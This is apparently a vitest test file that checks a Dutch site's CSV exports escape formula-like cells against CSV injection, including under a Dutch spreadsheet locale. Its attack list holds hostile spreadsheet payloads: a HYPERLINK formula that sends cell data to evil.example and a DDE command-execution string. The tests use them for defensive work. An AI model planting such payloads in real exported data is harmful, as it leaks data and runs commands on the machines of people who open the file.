/**
 * CSV without formulas (OWASP's rule for CSV injection): a cell that starts
 * with =, +, -, @, a tab or a carriage return is written as text, in the
 * open-data CSVs and the comparison page's download, as a spreadsheet
 * program reads the file.
 */
import { describe, expect, it } from 'vitest';
import { csvField, toCsvDocument } from '../../src/shared/csv.ts';
import { toCsv, type ComparedIntervention } from '../../src/client/compare.ts';
import { dutchFormulaCells, formulaCells, openAsDutchSpreadsheet, openAsSpreadsheet } from '../support/spreadsheet.ts';

const attacks = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=1+1,"=2+2"',
];

const sheetOf = (csv: string) => openAsSpreadsheet(Buffer.from(csv, 'utf8'));

describe('a CSV field', () => {
  it('keeps ordinary text as it is, quoting only where RFC 4180 needs it', () => {
    expect(csvField('Buurtmoeders')).toBe('Buurtmoeders');
    expect(csvField('Ouders, school')).toBe('"Ouders, school"');
    expect(csvField('Een "korte" tekst')).toBe('"Een ""korte"" tekst"');
    expect(csvField('2013-03-05')).toBe('2013-03-05');
  });

  it('starts a formula-like cell with an apostrophe, quoted', () => {
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('@x')).toBe(`"'@x"`);
  });

  it('gives a spreadsheet no formula to run, whatever a cell starts with', () => {
    const cells = sheetOf(toCsvDocument([['titel'], ...attacks.map((a) => [a])]));
    expect(cells).toHaveLength(attacks.length + 1);
    expect(formulaCells(cells)).toEqual([]);
    // What the spreadsheet shows is the text, behind the apostrophe that marks it as text.
    // A tab or carriage return that the cell starts with is one inside it too, so what follows it is marked as well.
    expect(cells.slice(1).map((c) => c.text)).toEqual(attacks.map((a) => `'${a}`.replace(/^'([\t\r])=/, "'$1'=")));
  });

  it('would have been run as a formula without the rule (the test can fail)', () => {
    const raw = `\uFEFFtitel\r\n${attacks[0]!.replaceAll('"', '""').replace(/^/, '"').replace(/$/, '"')}\r\n`;
    expect(formulaCells(sheetOf(raw)).map((c) => c.formula)).toEqual(['HYPERLINK("https://evil.example/?d="&A1,"Klik")']);
  });
});

describe('a CSV file in a spreadsheet set to Dutch, which splits cells at semicolons', () => {
  const inside = [
    'Ouders;=HYPERLINK(B2&C2)',
    'Ouders; +HYPERLINK(B2)',
    'a;@SUM(A1:A9)',
    'a;-2+3',
    'Eerste regel\n=HYPERLINK(B2)',
    'Eerste regel\r\n  +1+1',
    'Kolom\t=1+1',
  ];

  it('gives it no formula to run where a field goes on after a semicolon, tab or line break', () => {
    const csv = toCsvDocument([['titel', 'samenvatting'], ...inside.map((a) => [a, 'Een samenvatting, met een komma'])]);
    expect(dutchFormulaCells(openAsDutchSpreadsheet(Buffer.from(csv)))).toEqual([]);
    // The same file as a spreadsheet set to English reads it: the text is there, after an apostrophe.
    const cells = sheetOf(csv);
    expect(formulaCells(cells)).toEqual([]);
    expect(cells.find((c) => c.text.startsWith('Ouders;'))?.text).toBe("Ouders;'=HYPERLINK(B2&C2)");
  });

  it('would have run them without the rule (the test can fail)', () => {
    const raw = `titel,samenvatting\r\n${inside[0]},x\r\n`;
    expect(dutchFormulaCells(openAsDutchSpreadsheet(Buffer.from(raw))).map((c) => c.formula)).toEqual(['HYPERLINK(B2&C2),x']);
  });

  it('leaves a Markdown list in a body as it is', () => {
    expect(csvField('## Aanpak\n\n- Eerst bellen\n- Dan langsgaan; - daarna')).toBe('"## Aanpak\n\n- Eerst bellen\n- Dan langsgaan; - daarna"');
  });
});

describe('the comparison page’s CSV download', () => {
  it('holds no formula, also when titles, summaries and facts start like one', () => {
    const items: ComparedIntervention[] = attacks.map((attack, i) => ({
      id: `i${i}`,
      title: attack,
      url: `/interventies/i${i}/`,
      summary: attack,
      evidence: { level: 'praktijk', assessment: 'Niet beoordeeld.' },
      facts: [{ label: '-Kosten', values: [{ text: attack }] }],
    }));
    const cells = sheetOf(toCsv(items, 'https://lom-kennisbank.nl'));
    expect(formulaCells(cells)).toEqual([]);
    expect(cells.filter((c) => c.text === `'${attacks[0]}`).length).toBeGreaterThanOrEqual(3);
  });
});
